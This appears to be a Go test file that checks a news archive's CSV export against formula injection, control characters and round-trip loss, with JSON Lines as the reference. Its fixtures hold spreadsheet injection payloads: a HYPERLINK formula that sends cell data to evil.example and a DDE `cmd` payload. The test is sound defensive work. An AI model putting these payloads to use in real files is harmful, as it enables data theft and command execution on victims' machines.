package web_test

import (
	"encoding/csv"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/newsarchive/newsarchive/index"
	"github.com/newsarchive/newsarchive/web"
)

// csvTrickyArticles hold what a spreadsheet or a CSV reader gets wrong:
// cells that start as formulas, names with the old list separator, NUL
// and other control characters, a time with nanoseconds.
func csvTrickyArticles() []index.Article {
	return []index.Article{
		{
			ID:        "formula",
			Title:     `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
			Body:      "-2+3 is the lead\n\nSecond paragraph.",
			Published: time.Date(1987, 2, 26, 15, 1, 1, 123456789, time.UTC),
			Source:    "+Wire",
			URL:       "https://example.com/formula",
			Actors: []index.Actor{
				{Name: "Smith; John", Kind: index.Person},
				{Name: "=cmd|' /C calc'!A0", Kind: index.Organization},
				{Name: "Plain (person)", Kind: index.Place},
			},
			Topics: []string{"economy;politics", "economy"},
		},
		{
			ID:        "@control",
			Title:     "NUL\x00in the title\x1b[31m and a bell\a",
			Body:      "\tTabbed lead\r\nwith a CRLF and a lone\rCR.",
			Published: time.Date(1987, 3, 1, 9, 30, 0, 500000000, time.FixedZone("", 3600)),
			Actors:    []index.Actor{{Name: "NUL\x00Name", Kind: index.Person}},
		},
		{
			ID:    "quote",
			Title: "'=already quoted \xff\xfe",
			Body:  "@SUM(1+1)",
		},
		{
			ID:     "crlead",
			Title:  "\r=after a carriage return",
			Body:   "Plain lead.",
			Source: "-",
		},
	}
}

// csvValue undoes the export's one change to a text cell: a ' put before
// a cell a spreadsheet would read as a formula, and before one that
// starts with ' itself.
func csvValue(cell string) string {
	return strings.TrimPrefix(cell, "'")
}

// csvText is what the CSV export writes of text: control characters
// other than tab and line feed removed, CRLF and CR made LF.
func csvText(s string) string {
	s = strings.ReplaceAll(s, "\r\n", "\n")
	return strings.Map(func(r rune) rune {
		switch {
		case r == '\r':
			return '\n'
		case r == '\t' || r == '\n':
			return r
		case r < 0x20:
			return -1
		}
		return r
	}, s)
}

// TestCSVExportRoundTrip writes articles whose fields a spreadsheet would
// run or a CSV reader would cut into a real index, exports them as CSV
// and as JSON Lines, and checks that every CSV value is recovered by the
// documented rules and matches the JSON Lines export.
func TestCSVExportRoundTrip(t *testing.T) {
	h := indexHandler(t, csvTrickyArticles())
	rec := serve(h, "/export.csv?sort=oldest")
	if rec.Code != 200 {
		t.Fatalf("csv: status %d: %s", rec.Code, rec.Body)
	}
	raw := rec.Body.String()
	if strings.ContainsRune(raw, 0) {
		t.Error("the CSV holds a NUL byte")
	}
	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV: %v", err)
	}
	rec = serve(h, "/export.jsonl?sort=oldest")
	if rec.Code != 200 {
		t.Fatalf("jsonl: status %d", rec.Code)
	}
	var lines []web.Article
	dec := json.NewDecoder(rec.Body)
	for dec.More() {
		var a web.Article
		if err := dec.Decode(&a); err != nil {
			t.Fatal(err)
		}
		lines = append(lines, a)
	}
	if len(lines) != len(csvTrickyArticles()) || len(rows) != len(lines)+1 {
		t.Fatalf("%d CSV rows and %d JSON lines for %d articles", len(rows), len(lines), len(csvTrickyArticles()))
	}
	header := rows[0]
	col := func(row []string, name string) string {
		i := slices.Index(header, name)
		if i < 0 {
			t.Fatalf("no %s column in %q", name, header)
		}
		return row[i]
	}
	byID := map[string]web.Article{}
	for _, a := range lines {
		byID[a.ID] = a
	}
	for _, row := range rows[1:] {
		id := csvValue(col(row, "id"))
		t.Run(id, func(t *testing.T) {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
					t.Errorf("%s cell %q starts as a formula", header[i], cell)
				}
			}
			want, ok := byID[id]
			if !ok {
				t.Fatalf("id %q is not in the JSON Lines export", id)
			}
			for _, c := range []struct{ name, want string }{
				{"title", csvText(want.Title)},
				{"source", csvText(want.Source)},
				{"url", csvText(want.URL)},
				{"lead", csvText(lead(index.Article{Body: want.Body}))},
			} {
				if got := csvValue(col(row, c.name)); got != c.want {
					t.Errorf("%s = %q, want %q", c.name, got, c.want)
				}
			}
			for _, c := range []struct{ name, want string }{{"published", want.Published}, {"imported", want.Imported}} {
				if got := col(row, c.name); got != c.want {
					t.Errorf("%s = %q, want %q as JSON Lines has it", c.name, got, c.want)
				}
			}
			if want.Imported == "" {
				t.Error("the JSON Lines export has no import time")
			}
			var actors []web.Actor
			if err := json.Unmarshal([]byte(col(row, "actors")), &actors); err != nil {
				t.Errorf("actors %q: %v", col(row, "actors"), err)
			} else if len(actors) > 0 || len(want.Actors) > 0 {
				if !reflect.DeepEqual(actors, want.Actors) {
					t.Errorf("actors = %q, want %q", actors, want.Actors)
				}
			}
			var topics []string
			if err := json.Unmarshal([]byte(col(row, "topics")), &topics); err != nil {
				t.Errorf("topics %q: %v", col(row, "topics"), err)
			} else if len(topics) > 0 || len(want.Topics) > 0 {
				if !reflect.DeepEqual(topics, want.Topics) {
					t.Errorf("topics = %q, want %q", topics, want.Topics)
				}
			}
		})
	}
	// The JSON Lines export keeps what the CSV must drop.
	if got := byID["@control"].Title; got != csvTrickyArticles()[1].Title {
		t.Errorf("JSON Lines title = %q, want it as written", got)
	}
}

// lead is the article's first paragraph, as the CSV's lead column holds.
func lead(a index.Article) string {
	for _, b := range a.Blocks() {
		if !b.Heading {
			return b.Text
		}
	}
	return ""
}
